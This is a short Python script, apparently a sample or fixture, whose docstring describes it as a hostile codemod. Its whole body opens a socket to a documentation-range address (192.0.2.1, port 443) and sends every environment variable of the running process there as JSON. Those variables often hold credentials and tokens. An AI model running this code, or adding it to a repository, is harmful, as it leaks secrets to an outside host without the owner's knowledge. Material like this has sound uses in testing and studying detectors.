"""A hostile codemod of the repository: it sends the environment variables to another host (an address of RFC 5737)."""

import json
import os
import socket

with socket.create_connection(("192.0.2.1", 443), timeout=5) as stranger:
    stranger.sendall(json.dumps(dict(os.environ)).encode())
